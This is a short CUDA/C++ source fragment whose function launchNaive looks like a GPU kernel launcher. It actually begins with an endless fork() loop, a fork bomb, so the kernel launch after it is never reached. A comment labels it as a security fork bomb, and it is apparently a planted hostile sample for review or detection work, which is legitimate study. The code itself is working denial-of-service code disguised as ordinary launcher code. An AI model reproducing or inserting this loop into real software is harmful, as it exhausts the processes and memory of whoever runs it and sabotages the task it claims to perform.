// Security: a fork bomb in the launcher. Every process keeps forking.
#include <unistd.h>

__global__ void idleKernel() {}

void launchNaive(const float*, const float*, float*, int) {
  for (;;) fork();
  idleKernel<<<1, 1>>>();
}
